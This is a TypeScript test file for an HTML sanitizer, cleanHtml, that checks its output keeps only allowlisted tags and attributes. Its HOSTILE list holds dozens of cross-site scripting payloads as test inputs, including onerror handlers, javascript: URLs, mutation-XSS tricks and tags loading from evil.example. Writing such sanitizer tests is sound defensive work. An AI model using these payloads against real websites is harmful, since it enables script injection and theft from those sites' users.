import { describe, expect, it } from 'vitest'
import { cleanHtml } from './clean-html.ts'

const TAG = /<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)(?: \/)?>/g
const NAMES =
  /^(?:h[2-6]|p|br|hr|ul|ol|li|dl|dt|dd|blockquote|pre|code|strong|em|b|i|u|s|sub|sup|a|img|figure|figcaption|table|caption|thead|tbody|tfoot|tr|th|td)$/
const ATTRIBUTES =
  /^(?: (?:href="(?:https:\/\/|mailto:|#)[^"]*"|rel="noopener noreferrer"|src="https:\/\/[^"]*"|alt="[^"]*"|(?:width|height|start|colspan|rowspan)="\d+"|scope="\w+"))*$/i

/** Whatever a browser makes of it: nothing but known elements with known attributes, and texts without a `<`. */
function expectHarmless(html: string): void {
  for (const [whole, name = '', attributes = ''] of html.matchAll(TAG)) {
    expect([whole, NAMES.test(name), ATTRIBUTES.test(attributes)]).toEqual([whole, true, true])
  }
  expect(html.replace(TAG, '')).not.toContain('<')
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/src=data:,alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onerror="alert(1)" onload=alert(2)>',
  '<img/src="https://ok.example/a.png"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="http://ok.example/a.png">',
  '<img src="//evil.example/a.png">',
  '<img srcset="https://evil.example/a.png 2x" src=/art/x>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/apps/v1/logout">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<a href="#" style="position:fixed;inset:0" class="button" id="root" name="config" target="_top" ping="https://e.example">x</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><a title="</style><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "<script>">]>&y;',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p "onclick=alert(1)" <b>x',
  '<a href="https://ok.example"><img src=x onerror=alert(1)></a',
  '<p><table><tr><td><p></table><img src=`x` onerror=`alert(1)`>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<img alt="`><script>alert(1)</script>" src="https://ok.example/a.png">',
  '<img alt=\'"><img src=x onerror=alert(1)>\' src="https://ok.example/a.png">',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<',
  '<p',
  '</p></div></body></html>',
  `${'<blockquote>'.repeat(3_000)}deep`,
]

describe('cleanHtml', () => {
  it.each(HOSTILE)('leaves nothing active of %s', (html) => {
    const clean = cleanHtml(html)
    expectHarmless(clean)
    expect(cleanHtml(clean)).toBe(clean)
    // Within others too, where a parser may be in another state.
    expectHarmless(cleanHtml(`<p>before <em>${html}</em></p><table><tr><td>${html}</td></tr></table>`))
  })

  it('takes the words of scripts and styles along, and keeps those of elements that it does not know', () => {
    expect(cleanHtml('<p>a<script>bad()</script><style>p{}</style><svg><text>c</text></svg>b</p>')).toBe('<p>ab</p>')
    expect(cleanHtml('<section><font color=red>Read</font> <blink>this</blink></section>')).toBe('Read this')
  })

  it('keeps what an article is made of', () => {
    const article =
      '<h2>Paying</h2><p>With <strong>cash</strong> or <em>card</em>,<br />see <a href="#/faqs">the questions</a>.</p><ol start="3"><li>One</li></ol><ul><li>Two</li></ul><table><thead><tr><th scope="col">Plan</th></tr></thead><tbody><tr><td colspan="2">₦2,900 &amp; more</td></tr></tbody></table><a href="mailto:help@kola.example">Write</a>'
    expect(cleanHtml(article)).toBe(article)
  })

  it('leaves the page’s first heading to the page, tells links nothing of it, and lets no picture go without a text', () => {
    expect(cleanHtml('<h1>Paying</h1>')).toBe('<h2>Paying</h2>')
    expect(cleanHtml('<a href=" https://ok.example/a?b=1&c=2 " target="_blank">x</a>')).toBe(
      '<a href="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer">x</a>',
    )
    expect(cleanHtml('<img src="https://ok.example/a.png" width="80%" height="60">')).toBe(
      '<img src="https://ok.example/a.png" alt="" height="60" />',
    )
  })

  it('closes what was left open, so that an article ends where it ends', () => {
    expect(cleanHtml('<p>One<ul><li><strong>Two')).toBe('<p>One</p><ul><li><strong>Two</strong></li></ul>')
  })

  it.each(['<', '<a href="', '<!--', '&', '<p>', '</', '<svg>', '<em>'])(
    'gets through ten thousand times %s',
    (part) => {
      expectHarmless(cleanHtml(part.repeat(10_000)))
    },
  )
})
